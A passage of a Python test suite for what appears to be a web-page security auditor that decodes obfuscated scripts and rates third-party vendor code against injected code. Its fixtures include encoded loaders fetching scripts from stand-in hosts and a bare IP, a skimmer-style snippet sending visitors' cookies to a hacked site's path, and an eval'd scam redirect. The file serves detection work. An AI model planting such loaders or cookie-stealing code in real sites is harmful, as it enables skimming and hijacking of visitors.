    "\"link\");r.rel=\"preconnect\";r.as=\"script\";var n=document.createElement(\"link\");n."
    "rel=\"dns-prefetch\";n.as=\"script\";var i=document.createElement(\"script\");i.id=\"spc"
    "loader\";i.type=\"text/javascript\";i[\"async\"]=true;i.charset=\"utf-8\";var a=\"https:"
    "//sdk.privacy-center.org/\"+e+\"/loader.js?target_type=notice&target=\"+t;if(window.dido"
    "miConfig&&window.didomiConfig.user){var o=window.didomiConfig.user;var c=o.country;var s"
    "=o.region;if(c){a=a+\"&country=\"+c;if(s){a=a+\"&region=\"+s}}}r.href=\"https://sdk.priv"
    "acy-center.org/\";n.href=\"https://sdk.privacy-center.org/\";i.src=a;var d=document.getE"
    "lementsByTagName(\"script\")[0];d.parentNode.insertBefore(r,d);d.parentNode.insertBefore"
    "(n,d);d.parentNode.insertBefore(i,d)})(\"0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9\",\"Ab1Cd2"
    "Ef\")})();</script>"
)

STAPE = (
    "<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),e"
    "vent:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer"
    "'?'&l='+l:'';j.async=true;j.src='https://load.ss.harbourgazette-data.example/qwertyzxcv."
    "js?'+i;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','b4x=aWQ9R"
    "1RNLUs3UTJaUDM%3D&page=2');</script>"
)

SGTM = (
    "<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),e"
    "vent:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer"
    "'?'&l='+l:'';j.async=true;j.src='https://sgtm.harbourgazette-data.example/gtm.js?id='+i+"
    "dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-K7Q2ZP3')"
    ";</script>"
)

WP_ROCKET_DELAY = (
    "<script>class RocketLazyLoadScripts{constructor(){this.v=\"1.2.5.1\",this.triggerEvents="
    "[\"keydown\",\"mousedown\",\"mousemove\",\"touchmove\",\"touchstart\",\"touchend\",\"whe"
    "el\"],this.userEventHandler=this.t.bind(this),this.touchStartHandler=this.i.bind(this),t"
    "his.delayedScripts={normal:[],async:[],defer:[]}}async o(t){return await this.h(),new Pr"
    "omise((function(e){const i=document.createElement(\"script\");let n;[...t.attributes].fo"
    "rEach((t=>{let e=t.nodeName;\"type\"!==e&&(\"data-rocket-type\"===e&&(e=\"type\",n=t.nod"
    "eValue),i.setAttribute(e,t.nodeValue))})),t.text&&(i.text=t.text),t.hasAttribute(\"src\""
    ")?(i.addEventListener(\"load\",e),i.addEventListener(\"error\",e)):(i.text=t.text,e());t"
    "ry{t.parentNode.replaceChild(i,t)}catch(t){e()}}))}_transform(t){if(!t.hasAttribute(\"sr"
    "c\")&&t.text){t.src=\"data:text/javascript;base64,\"+window.btoa(unescape(encodeURICompo"
    "nent(t.text)))}}static run(){const t=new RocketLazyLoadScripts;t.D(t)}}RocketLazyLoadScr"
    "ipts.run();</script><script type=\"rocketlazyloadscript\" data-rocket-src=\"https://www."
    "googletagmanager.com/gtag/js?id=G-AB12CD34EF\" async></script><script type=\"rocketlazyl"
    "oadscript\">window.dataLayer = window.dataLayer || [];function gtag(){dataLayer.push(arg"
    "uments);}gtag('js', new Date());gtag('config', 'G-AB12CD34EF');</script>"
)

LITESPEED = (
    "<script>var litespeed_vary=document.cookie.replace(/(?:(?:^|.*;\\s*)_lscache_vary\\s*\\="
    "\\s*([^;]*).*$)|^.*$/,'');litespeed_vary||fetch('/wp-content/plugins/litespeed-cache/gue"
    "st.vary.php',{method:'POST',cache:'no-cache',redirect:'follow'}).then(e=>e.json()).then("
    "e=>{console.log(e),e.hasOwnProperty('reload')&&'yes'==e.reload&&(sessionStorage.setItem("
    "'litespeed_docref',document.referrer),window.location.reload(!0))});</script><script dat"
    "a-no-optimize=\"1\">var litespeed_docref=sessionStorage.getItem(\"litespeed_docref\");li"
    "tespeed_docref&&(Object.defineProperty(document,\"referrer\",{get:function(){return lite"
    "speed_docref}}),sessionStorage.removeItem(\"litespeed_docref\"));</script><script src=\""
    "data:text/javascript;base64,d2luZG93LmRhdGFMYXllciA9IHdpbmRvdy5kYXRhTGF5ZXIgfHwgW107ZnVu"
    "Y3Rpb24gZ3RhZygpe2RhdGFMYXllci5wdXNoKGFyZ3VtZW50cyk7fWd0YWcoJ2pzJywgbmV3IERhdGUoKSk7Z3Rh"
    "ZygnY29uZmlnJywgJ0ctQUIxMkNEMzRFRicpOw==\" defer></script><script data-optimized=\"1\" t"
    "ype=\"litespeed/javascript\" data-src=\"https://news.example/wp-content/litespeed/js/0a1"
    "b2c3d4e5f.js?ver=a1b2c\"></script>"
)

AUTOPTIMIZE = (
    "<script data-cfasync=\"false\" id=\"ao_optimized_gfonts_config\">WebFontConfig={google:{"
    "families:[\"Roboto:400,700\"] },classes:false, events:false, timeout:1500};</script><scr"
    "ipt defer src=\"data:text/javascript;base64,dmFyIHNhc3N5U29jaWFsU2hhcmUgPSB7ImRlbGF5SnMi"
    "OiIwIiwiaXNNb2JpbGUiOiIiLCJhamF4VXJsIjoiaHR0cHM6Ly9uZXdzLmV4YW1wbGUvd3AtYWRtaW4vYWRtaW4t"
    "YWpheC5waHAifTs=\"></script><script defer src=\"https://news.example/wp-content/cache/au"
    "toptimize/js/autoptimize_0a1b2c3d4e5f60718293a4b5c6d7e8f9.js\"></script>"
)

ENKODER = (
    "<script type=\"text/javascript\">document.write(decodeURIComponent('%3c%61%20%68%72%65%6"
    "6%3d%22%6d%61%69%6c%74%6f%3a%64%65%73%6b%40%6e%65%77%73%2e%65%78%61%6d%70%6c%65%22%3e%64"
    "%65%73%6b%40%6e%65%77%73%2e%65%78%61%6d%70%6c%65%3c%2f%61%3e'));</script>"
)

JETPACK = (
    "<script type=\"text/javascript\" src=\"https://stats.wp.com/e-202449.js\" id=\"jetpack-s"
    "tats-js\" defer data-wp-strategy=\"defer\"></script><script type=\"text/javascript\" id="
    "\"jetpack-stats-js-after\">_stq = window._stq || [];_stq.push([ \"view\", JSON.parse(\"{"
    "\\\"v\\\":\\\"ext\\\",\\\"blog\\\":\\\"198765432\\\",\\\"post\\\":\\\"4187\\\",\\\"tz\\"
    "\":\\\"0\\\",\\\"srv\\\":\\\"news.example\\\",\\\"j\\\":\\\"1:13.9\\\"}\") ]);_stq.push("
    "[ \"clickTrackerInit\", \"198765432\", \"4187\" ]);</script>"
)


VENDORS: list[tuple[str, str, Severity | None]] = [
    # (what, page, the obfuscated-script severity it may have: None for none)
    ("Funding Choices' tag and error protection code", page(FC_TAG, foot=fc_error_protection(
        fc_config())), None),
    ("Funding Choices' error protection code alone", page(foot=fc_error_protection(
        fc_config())), None),
    ("Admiral's tag and its obfuscated fallback", page(ADMIRAL_TAG + admiral(ADMIRAL_HOSTS)), M),
    ("Ad-Shield's loader and its obfuscated fallback", page(
        ADSHIELD_TAG + "<script>" + obfuscated(ADSHIELD_WORDS, ADSHIELD_BODY) + "</script>"), M),
    ("Blockthrough's tag and AdThrive's recovery", page(BLOCKTHROUGH), None),
    ("an ad-block bait check", page(body=BAIT), None),
    ("Cloudflare's challenge script", page(foot=CF_CHALLENGE), None),
    ("Cloudflare Rocket Loader", page(foot=ROCKET_LOADER), None),
    ("Cloudflare's e-mail protection", page(body=CF_EMAIL), None),
    ("Akamai Bot Manager", page(AKAMAI), None),
    ("PerimeterX's block page", page(PERIMETERX_BLOCK), None),
    ("DataDome's block page", page(DATADOME_BLOCK), None),
    ("Imperva's hex-encoded inline code", page(INCAPSULA), None),
    ("Kasada", page(KASADA), None),
    ("VWO SmartCode 2.1", page(VWO), None),
    ("Google Optimize's anti-flicker", page(ANTI_FLICKER), None),
    ("Yandex Metrica", page(YANDEX), None),
    ("Piwik PRO", page(PIWIK_PRO), None),
    ("TikTok pixel", page(TIKTOK), None),
    ("Sourcepoint's TCF stub", page(SOURCEPOINT), None),
    ("Quantcast Choice (InMobi)", page(QUANTCAST), None),
    ("Didomi", page(DIDOMI), None),
    ("Stape's custom GTM loader", page(STAPE), None),
    ("server-side GTM on a custom domain", page(SGTM), None),
    ("WP Rocket's delayed JS", page(foot=WP_ROCKET_DELAY), None),
    ("LiteSpeed's vary check and base64 data: scripts", page(foot=LITESPEED), None),
    ("Autoptimize", page(foot=AUTOPTIMIZE), None),
    ("an e-mail link written by decodeURIComponent", page(body=ENKODER), None),
    ("Jetpack stats", page(foot=JETPACK), None),
]


def _obfuscated(report: PageReport) -> list[tuple[Severity, str]]:
    return [(f.severity, f.message) for f in report.findings if f.kind == "obfuscated-script"]


@pytest.mark.parametrize(("what", "html", "most"), VENDORS, ids=[v[0] for v in VENDORS])
def test_a_vendors_own_code_reads_no_high(what: str, html: str, most: Severity | None,
                                          audit_html: AuditHtml) -> None:
    found = _obfuscated(audit_html(html, url=URL))
    assert [s for s, _ in found] == ([most] if most else []), found
    for _, message in found:  # a medium says what to check
        assert "check that the site chose that vendor" in message


def _config_loader(url: str) -> str:
    """A loader whose address is a value of base64 JSON it reads."""
    return (f"<script>var c=JSON.parse(atob('{b64(json.dumps({'v': 2, 'u': url}))}'));var s="
            "document.createElement('script');s.src=c.u;document.head.appendChild(s);</script>")


_FRESH = "https://cdn.fresh-metrics.test/j.js"
_TABLE_LOADER = ("var _0x6d=document[_0x4f5a('0x0')](_0x4f5a('0x1'));_0x6d[_0x4f5a('0x2')]="
                 "_0x4f5a('0x3');document[_0x4f5a('0x4')][_0x4f5a('0x5')](_0x6d);")


def _table_loader(url: str, *extra: str) -> str:
    words = ["createElement", "script", "src", url, "head", "appendChild", *extra]
    return "<script>" + obfuscated(words, _TABLE_LOADER) + "</script>"


def _imperva_shaped(code: str) -> str:
    """`code` as Imperva's inline script carries its own: hex digits, two a character,
    turned into char codes and run by `eval` (INCAPSULA)."""
    return ("<script type=\"text/javascript\">(function() { var z=\"\";var b=\""
            + code.encode().hex() + "\";for (var i=0;i<b.length;i+=2){z=z+parseInt("
            "b.substring(i, i+2), 16)+\",\";}z = z.substring(0,z.length-1); eval(eval('"
            "String.fromCharCode('+z+')'));})();</script>")


def test_hex_digits_turned_into_code_are_read(audit_html: AuditHtml) -> None:
    """Imperva's hex string, turned into char codes at run time and handed to `eval`,
    was not decoded: a loader written so was found nowhere (no request, no finding). The
    loader's request is found now, as one read from decoded code; Imperva's own code,
    which asks its site's `/_Incapsula_Resource`, is still no finding (VENDORS)."""
    html = page(foot=_imperva_shaped(
        "var s=document.createElement('script');s.src='https://cdn.fresh-metrics.test/j.js';"
        "document.head.appendChild(s);"))
    report = audit_html(html, url=URL)
    assert ("https://cdn.fresh-metrics.test/j.js", "inline-decoded") in {
        (r.url, r.via) for r in report.resources}
    own = audit_html(page(INCAPSULA), url=URL)
    assert not [r for r in own.resources if r.third_party]
    assert not decode_script("var k='719d34d31c8e3a6e6fffd425f7e032f3';parseInt(k.substr(0,"
                             " 2), 16);").payloads  # a key spells nothing
    # the same shape asking Imperva's path and posting the visitor's cookies to another
    # path of the site (a skimmer's drop on a hacked site) is not Imperva's own
    skimmer = page(foot=_imperva_shaped(
        "var x=new XMLHttpRequest;x.open('GET','/_Incapsula_Resource?SWHANEDL=1',false);"
        "x.send(null);document.createElement('img').src='/wp-content/uploads/2024/01/i.php?c='"
        "+encodeURIComponent(document.cookie);"))
    assert _obfuscated(audit_html(skimmer, url=URL))


_JQUERY = '<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script>'
_JSDELIVR = ('<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/js/bootstrap.bundle'
             '.min.js"></script>')
INJECTED: list[tuple[str, str]] = [
    ("base64 JSON holding a fresh host's script", page(foot=_config_loader(_FRESH))),
    ("base64 JSON holding a script on rented storage", page(foot=_config_loader(
        "https://storage.googleapis.com/bkt-9931/x.js"))),
    ("base64 JSON holding a bare IP's script", page(foot=_config_loader(
        "http://185.12.34.56/j.js"))),
    ("Funding Choices' config with another host's script", page(FC_TAG, foot=fc_error_protection(
        fc_config("https://cdn.fresh-metrics.test")))),
    ("javascript-obfuscator loader of a fresh host", page(foot=_table_loader(_FRESH))),
    ("javascript-obfuscator loader of a bare IP", page(foot=_table_loader(
        "http://185.12.34.56/j.js"))),
    # a host the page loads far above it, named in the table, makes no vendor's fallback
    ("the same, its table naming the page's jQuery CDN", page(_JQUERY, foot=_table_loader(
        _FRESH, "code.jquery.com"))),
    ("Admiral's form with a bare IP among its hosts", page(ADMIRAL_TAG + admiral(
        [ADMIRAL_HOSTS[0], "http://185.12.34.56/j.js"]))),
    ("base64 handed to eval, a redirect", page(foot="<script>eval(atob('" + b64(
        "window.location.href='https://prize-claim-center.test/?s=hg';") + "'));</script>")),
    ("a script src built from char codes", page(foot=(
        "<script>var s=document.createElement('script');s.src=String.fromCharCode("
        + ",".join(str(ord(c)) for c in "https://stay.linestoget.test/x.js")
        + ");document.head.appendChild(s);</script>"))),
    ("a loader written as hex digits in Imperva's shape", page(foot=_imperva_shaped(
        "var s=document.createElement('script');s.src='https://cdn.fresh-metrics.test/j.js';"
        "document.head.appendChild(s);"))),
]


@pytest.mark.parametrize(("what", "html"), INJECTED, ids=[i[0] for i in INJECTED])
def test_the_injected_forms_stay_high(what: str, html: str, audit_html: AuditHtml) -> None:
    found = _obfuscated(audit_html(html, url=URL))
    assert [s for s, _ in found] == [H], found


_ICON = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 22h20z"/>'
         "</svg>")
_BANNER = ('<div class="cky-banner"><img src="https://cdn.banner-widget.test/logo.svg" alt="">'
           '<button class="cky-btn">Accept</button></div>')


def test_an_encoded_template_of_images_hides_no_code() -> None:
    """A consent widget's base64 icons and banner template (a logo image, an SVG's
    namespace) load nothing that runs: no obfuscation. Markup with an event handler is
    code, however it loads."""
    widget = (f"var icons={{close:'{b64(_ICON)}'}};var tpl='{b64(_BANNER)}';function show(){{"
              "var d=document.createElement('div');d.innerHTML=atob(tpl);"
              "document.body.appendChild(d);}")
    assert not decode_script(widget).obfuscated
    handler = _BANNER.replace('alt=""', "onerror=\"fetch('/x?'+document.cookie)\"")
    assert decode_script(widget.replace(b64(_BANNER), b64(handler))).obfuscated


def test_base64_json_is_data_whose_urls_the_code_reads() -> None:
    """Funding Choices' config decodes to data: its URLs are found, marked as data's, and
    nothing but them makes the script one that hides something."""
    code = fc_error_protection(fc_config())[len("<script>"):-len("</script>")]
    decoded = decode_script(code)
    assert decoded.data_only and decoded.signals == ("encoded data holds a loadable URL",)
    static = "https://www.gstatic.com/0emn/f/p/pub-1111222233334444.js?usqp=CBI"
    assert {u.url: u.in_data for u in decoded.urls}[static] is True
    assert is_data(json.dumps({"a": [1, None]})) and not is_data("f([1])")
    # data that holds code is run code: still decoded as code
    assert not decode_script(f"eval(atob('{b64(_TABLE_LOADER)}'))").data_only


def test_json_nested_past_the_parsers_depth_is_no_crash() -> None:
    """Base64 of arrays nested 20,000 deep (json.loads raises RecursionError) is not
    read as data; the page's audit goes on."""
    deep = "[" * 20000 + "]" * 20000
    assert not is_data(deep)
    decode_script(f"var c=JSON.parse(atob('{b64(deep)}'));")


_FETCH_EVAL = "fetch('https://cdn.fresh-metrics.test/p').then(r=>r.text()).then(t=>eval(t))"


@pytest.mark.parametrize("run", ["eval(d.code)", "(new Function(d.code))()",
                                 "setTimeout(d.code,9)"])
def test_code_carried_in_base64_json_is_code(run: str, audit_html: AuditHtml) -> None:
    """JSON whose string is code that the visible code runs (`eval(d.code)`) hides code
    as base64 code does: medium, as before base64 JSON was read as data."""
    carried = b64(json.dumps({"v": 1, "code": _FETCH_EVAL}))
    html = page(foot=f"<script>var d=JSON.parse(atob('{carried}'));{run};</script>")
    assert [s for s, _ in _obfuscated(audit_html(html, url=URL))] == [M]
    assert not is_data(json.dumps({"code": _FETCH_EVAL}))
    assert is_data(json.dumps({"type": "location", "u": "https://x.test/a"}))


_GPT = '<script async src="https://securepubads.g.doubleclick.net/tag/js/gpt.js"></script>'


@pytest.mark.parametrize(("what", "html", "most"), [
    ("an injected table under the page's jQuery tag, naming it", page(
        _JQUERY + "\n" + _table_loader(_FRESH, "code.jquery.com")), H),
    ("an injected table under GPT's tag, naming it", page(
        _GPT + "\n" + _table_loader(_FRESH, "securepubads.g.doubleclick.net")), H),
    ("an injected loader of jQuery's URL and a fresh host, under jQuery's tag", page(
        _JQUERY + admiral(["https://code.jquery.com/jquery-3.7.1.min.js", _FRESH])), H),
    # a library the page loads from jsDelivr vouches for no code beside it: anyone's files
    ("an injected loader of a jsDelivr repository's file, under the page's jsDelivr tag",
     page(_JSDELIVR + "\n" + _table_loader(
         "https://cdn.jsdelivr.net/gh/xq27/assets@main/p.js")), H),
    ("an injected table under the page's jsDelivr tag, naming it", page(
        _JSDELIVR + "\n" + _table_loader(_FRESH, "cdn.jsdelivr.net")), H),
    # a catalogued vendor's fallback to its own hosts is one still
    ("obfuscated code loading only the jQuery tag's URL again", page(
        _JQUERY + _table_loader("https://code.jquery.com/jquery-3.7.1.min.js")), M),
], ids=lambda v: v if isinstance(v, str) and len(v) < 90 else "")
def test_a_catalogued_loader_vouches_for_no_other_hosts(what: str, html: str, most: Severity,
                                                        audit_html: AuditHtml) -> None:
    """A vendor whose hosts rotate (Admiral, Ad-Shield) is in no catalogue: a loader the
    catalogue files under a company is the fallback only of code loading that company's
    hosts. Obfuscated code pasted within two lines of the page's jQuery or GPT tag that
    names it and loads a fresh host was medium, as a vendor's fallback."""
    assert [s for s, _ in _obfuscated(audit_html(html, url=URL))] == [most]


def _array_loader(*urls: str) -> str:
    """A loader whose address is the last value of a base64 JSON array it reads."""
    data = b64(json.dumps(list(urls)))
    return (f"<script>var c=JSON.parse(atob('{data}'));var s=document.createElement('script');"
            "s.src=c[c.length-1];document.head.appendChild(s);</script>")


_FC_URL = "https://fundingchoicesmessages.google.com/b/pub-1111222233334444"


@pytest.mark.parametrize("url", [
    "https://evil-app.firebaseapp.com/x.js",  # a hosting platform's customer
    "https://evil.blogspot.com/x.js",
    "https://storage.googleapis.com/bkt-9931/x.js",  # rented storage
    "https://www.googletagmanager.com/gtm.js?id=GTM-K7QX2P",  # the injector's container
])
def test_data_naming_a_vendor_vouches_for_no_customer_host(url: str,
                                                           audit_html: AuditHtml) -> None:
    """A vendor's service named in base64 data vouches for its company's content hosts,
    not for a customer's host on its platform nor a tag manager's container (their code
    is anyone's): beside Funding Choices' URL, each of these was no finding (high before
    base64 JSON was read as data); alone, GTM's was none too."""
    for html in (page(foot=_array_loader(_FC_URL, url)), page(foot=_config_loader(url))):
        assert [s for s, _ in _obfuscated(audit_html(html, url=URL))] == [H]


def rotated(words: list[str], body: str, escaped: bool = True) -> str:
    """javascript-obfuscator's current shape: the string array returned by a function,
    rotated at run time until a checksum of `parseInt`s matches, and read through an
    accessor with an offset (`_0x5e6f(0x1a3)` is `words[3]` once rotated). Which string
    an index names cannot be read without running it."""
    table = ",".join(("'" + "".join(f"\\x{ord(c):02x}" for c in w) + "'") if escaped
                     else json.dumps(w) for w in words)
    return (
        "(function(_0x1a2b3c,_0x4d5e6f){var _0x2b3c4d=_0x5e6f,_0x3c4d5e=_0x1a2b3c();while(!![])"
        "{try{var _0x4d5e6f7=parseInt(_0x2b3c4d(0x1a0))/0x1+-parseInt(_0x2b3c4d(0x1a1))/0x2;if("
        "_0x4d5e6f7===_0x4d5e6f)break;else _0x3c4d5e['push'](_0x3c4d5e['shift']());}catch(_0x5e"
        "6f70){_0x3c4d5e['push'](_0x3c4d5e['shift']());}}}(_0x1b2c,0x6b3d1));function _0x1b2c()"
        f"{{var _0x6f7081=[{table}];_0x1b2c=function(){{return _0x6f7081;}};return _0x1b2c();}}"
        "function _0x5e6f(_0x708192,_0x8192a3){var _0x92a3b4=_0x1b2c();return _0x5e6f=function("
        "_0xa3b4c5,_0xb4c5d6){_0xa3b4c5=_0xa3b4c5-0x1a0;var _0xc5d6e7=_0x92a3b4[_0xa3b4c5];"
        "return _0xc5d6e7;},_0x5e6f(_0x708192,_0x8192a3);}" + body)


def _at(index: int) -> str:
    """The accessor call reading the table's `index`th string (before rotation)."""
    return f"_0x1({hex(0x1a0 + index)})"


# a premium theme's licence check: posts the site's host name and purchase code to its
# licence server, warns in the console when the answer is `invalid`; `location` is in the
# table only to read `location.hostname`
_LICENCE_WORDS = ["https://license.themeforge.example/api/v2/verify", "location", "hostname",
                  "then", "json", "status", "invalid", "console", "warn",
                  "Theme licence is not activated for ", "POST", "stringify"]
_LICENCE = (
    f"(function(){{var _0x1=_0x5e6f;fetch({_at(0)},{{method:{_at(10)},body:JSON[{_at(11)}]({{"
    f"domain:window[{_at(1)}][{_at(2)}],code:'A1B2-C3D4-E5F6'}})}})[{_at(3)}](function(_0x2)"
    f"{{return _0x2[{_at(4)}]();}})[{_at(3)}](function(_0x3){{if(_0x3[{_at(5)}]==={_at(6)})"
    f"window[{_at(7)}][{_at(8)}]({_at(9)}+window[{_at(1)}][{_at(2)}]);}});}}());")
# the same vendor's older check: an XMLHttpRequest to a `.js`-named endpoint, read as JSON
_LICENCE_XHR_WORDS = ["https://api.pluginhaus.example/licence/check.js?k=", "location",
                      "hostname", "XMLHttpRequest", "open", "GET", "send", "onload",
                      "responseText", "parse", "valid", "console", "error",
                      "Plugin licence invalid"]
_LICENCE_XHR = (
    f"(function(){{var _0x1=_0x5e6f,_0x2=new window[{_at(3)}]();_0x2[{_at(4)}]({_at(5)},"
    f"{_at(0)}+window[{_at(1)}][{_at(2)}]);_0x2[{_at(7)}]=function(){{var _0x3=JSON[{_at(9)}]"
    f"(_0x2[{_at(8)}]);if(!_0x3[{_at(10)}])window[{_at(11)}][{_at(12)}]({_at(13)});}};"
    f"_0x2[{_at(6)}]();}}());")
# an unlicensed copy's notice: a div whose markup links to the shop, unless on localhost
_NOTICE_WORDS = ["https://themeforge.example/buy?ref=nolicence", "location", "hostname",
                 "createElement", "div", "innerHTML", "Unlicensed copy. <a href=\"",
                 "\">Buy a licence</a>", "body", "appendChild", "indexOf", "localhost"]
_NOTICE = (
    f"(function(){{var _0x1=_0x5e6f;if(window[{_at(1)}][{_at(2)}][{_at(10)}]({_at(11)})<0x0)"
    f"{{var _0x2=document[{_at(3)}]({_at(4)});_0x2[{_at(5)}]={_at(6)}+{_at(0)}+{_at(7)};"
    f"document[{_at(8)}][{_at(9)}](_0x2);}}}}());")
# an anti-adblock script: a bait div, then a notice linking to its help page and a
# button reloading the page
_ANTI_ADBLOCK_WORDS = [
    "adsbox", "createElement", "div", "className", "ad-banner adsbox doubleclick", "body",
    "appendChild", "offsetHeight", "innerHTML",
    "<p>Please disable your ad blocker. <a href=\"https://help.newsroom-tools.example/adblock\">"
    "How?</a></p>", "location", "reload", "removeChild", "setTimeout"]
_ANTI_ADBLOCK = (
    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)});_0x2[{_at(3)}]={_at(4)};"
    f"document[{_at(5)}][{_at(6)}](_0x2);window[{_at(13)}](function(){{if(_0x2[{_at(7)}]===0x0)"
    f"{{var _0x3=document[{_at(1)}]({_at(2)});_0x3[{_at(8)}]={_at(9)};document[{_at(5)}]"
    f"[{_at(6)}](_0x3);_0x3.onclick=function(){{window[{_at(10)}][{_at(11)}]();}};}}document"
    f"[{_at(5)}][{_at(12)}](_0x2);}},0x64);}}());")

# a bot check: is `fetch` native (`Function.prototype.toString`), then post the verdict and
# the page's address to its collector, an endpoint with no extension
_BOT_CHECK_WORDS = ["https://collect.quietguard.example/v2/e", "POST", "location", "href",
                    "fetch", "toString", "prototype", "native code", "JSON", "stringify"]
_BOT_CHECK = (
    f"(function(){{var _0x1=_0x5e6f,_0x2=Function[{_at(6)}][{_at(5)}].call(fetch).indexOf("
    f"{_at(7)})>-0x1;window[{_at(4)}]({_at(0)},{{method:{_at(1)},body:JSON[{_at(9)}]({{u:window"
    f"[{_at(2)}][{_at(3)}],n:_0x2}})}});}}());")
# an analytics tag: its queue set two names down `window`, a beacon with the page's address
_BEACON_WORDS = ["https://in.quietmetrics.example/hit", "location", "href", "qm", "q",
                 "sendBeacon"]
_BEACON = (
    f"(function(){{var _0x1=_0x5e6f;window[{_at(3)}]=window[{_at(3)}]||{{}};window[{_at(3)}]"
    f"[{_at(4)}]=[];var _0x2={{}};_0x2.location=window[{_at(1)}][{_at(2)}];navigator[{_at(5)}]("
    f"{_at(0)},JSON.stringify(_0x2));}}());")

_WEBPACK_MODULE = (
    "__webpack_require__.r(__webpack_exports__);\\n/* harmony import */ var _api__WEBPACK_IMP"
    "ORTED_MODULE_0__ = __webpack_require__(/*! ./api */ \\\"./src/api.js\\\");\\nfunction init"
    "() {\\n  fetch('https://api.shop-backend.example/v1/cart').then(r => r.json()).then(rend"
    "er);\\n}\\ninit();")
_SOURCE_MAP = b64(json.dumps({
    "version": 3, "sources": ["webpack://shop/./src/index.js"], "names": [],
    "mappings": "AAAA;AACA", "sourceRoot": "", "sourcesContent": [
        "import { api } from './api';\nfunction init() {\n  fetch('https://api.shop-backend."
        "example/v1/cart').then(r => r.json()).then(render);\n}\ninit();"]}))
WEBPACK_DEV = (
    "<script>/******/ (() => { // webpackBootstrap\n/******/ \tvar __webpack_modules__ = ({\n"
    "\"./src/index.js\":\n/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_req"
    f"uire__) => {{\n\neval(\"{_WEBPACK_MODULE}//# sourceURL=[module]\\n//# sourceMappingURL="
    f"data:application/json;charset=utf-8;base64,{_SOURCE_MAP}\\n//# sourceURL=webpack-intern"
    "al:///./src/index.js\\n\");\n\n/***/ })\n/******/ });\n})();</script>")
_WASM = base64.b64encode(bytes([0, 97, 115, 109, 1, 0, 0, 0, 1, 7, 1, 96, 2, 127, 127, 1, 127,
                                3, 2, 1, 0, 7, 7, 1, 3, 97, 100, 100, 0, 0, 10, 9, 1, 7, 0, 32,
                                0, 32, 1, 106, 11]) * 4).decode()
EMSCRIPTEN = (
    "<script>var Module=typeof Module!='undefined'?Module:{};var dataURIPrefix='data:applicat"
    "ion/octet-stream;base64,';function isDataURI(f){return f.startsWith(dataURIPrefix)}func"
    "tion tryParseAsDataURI(f){if(!isDataURI(f)){return}var d=atob(f.slice(dataURIPrefix.len"
    "gth));var b=new Uint8Array(d.length);for(var i=0;i<d.length;++i){b[i]=d.charCodeAt(i)}"
    f"return b}}var wasmBinaryFile='data:application/octet-stream;base64,{_WASM}';WebAssembl"
    "y.instantiate(tryParseAsDataURI(wasmBinaryFile),{env:{}});</script>")
I18N = (
    "<script>!function(){var t=JSON.parse(atob('" + b64(json.dumps({
        "de": {"more": "Mehr lesen", "privacy": "https://shop.example/datenschutz"},
        "en": {"more": "Read more"}})) + "')),e=document.documentElement.lang||'en';document."
    "querySelectorAll('[data-i18n]').forEach(function(n){n.textContent=(t[e]||t.en)[n.datase"
    "t.i18n]})}();</script>")
ICON_FONT = (
    "<script>var f=new FontFace('Icons','url(data:font/woff2;base64,"
    + base64.b64encode(bytes(range(256)) * 3).decode()
    + ")');f.load().then(function(l){document.fonts.add(l)});</script>")

# a bot check's VM handed its program as base64 bytecode (BotGuard's inline shape)
BOT_CHECK_VM = (
    "<script nonce=\"n0nce\">(function(){var l=this||self,G=function(q,X){for(var k=q.split('.')"
    ",g=l,a;k.length&&(a=k.shift());)!k.length&&X!==void 0?g[a]=X:g=g[a]?g[a]:g[a]={}},y=fun"
    "ction(q){var X=atob(q),k=new Uint8Array(X.length);for(var g=0;g<X.length;g++)k[g]=X.char"
    "CodeAt(g);return k};G('botguard.bg',function(q,X){this.p=y(q);this.cb=X});})();new botgu"
    "ard.bg('" + base64.b64encode(bytes((i * 37 + 11) % 256 for i in range(900))).decode()
    + "',function(r){document.getElementById('bgresponse').value=r});</script>")
# a site builder's context: JSON whose slashes are `\u002F` escapes
SITE_CONTEXT = ("<script>Static = window.Static || {}; Static.SQUARESPACE_CONTEXT = " + json.dumps({
    "website": {"id": "5f1a2b3c4d5e6f7a8b9c0d1e", "baseUrl": "https://studio-kiln.example",
                "logoImageUrl": "//images.squarespace-cdn.com/content/v1/5f1a2b/logo.png"},
    "templateScript": "https://static1.squarespace.com/static/vta/5c5a5197/scripts/site-bundle"
                      ".js"}).replace("/", "\\u002F") + ";</script>")

GENERATED: list[tuple[str, str, Severity | None]] = [
    # (what, page, the obfuscated-script severity it may have: None for none)
    ("a theme's licence check posting to its licence server", page(
        foot="<script>" + rotated(_LICENCE_WORDS, _LICENCE) + "</script>"), M),
    ("the same, its table not escaped", page(
        foot="<script>" + rotated(_LICENCE_WORDS, _LICENCE, escaped=False) + "</script>"), M),
    ("a plugin's licence check asking a .js-named endpoint by XHR", page(
        foot="<script>" + rotated(_LICENCE_XHR_WORDS, _LICENCE_XHR) + "</script>"), M),
    ("an unlicensed copy's notice linking to the shop", page(
        foot="<script>" + rotated(_NOTICE_WORDS, _NOTICE) + "</script>"), M),
    ("an obfuscated anti-adblock bait and notice", page(
        foot="<script>" + rotated(_ANTI_ADBLOCK_WORDS, _ANTI_ADBLOCK) + "</script>"), M),
    ("a bot check posting to its collector, its table plain", page(
        foot="<script>" + rotated(_BOT_CHECK_WORDS, _BOT_CHECK, escaped=False) + "</script>"), M),
    ("an analytics tag's beacon and queue, its table plain", page(
        foot="<script>" + rotated(_BEACON_WORDS, _BEACON, escaped=False) + "</script>"), M),
    ("a webpack eval-source-map dev build", page(foot=WEBPACK_DEV), None),
    ("an Emscripten loader with its wasm as base64", page(foot=EMSCRIPTEN), None),
    ("a bundle's translations as base64 JSON", page(foot=I18N), None),
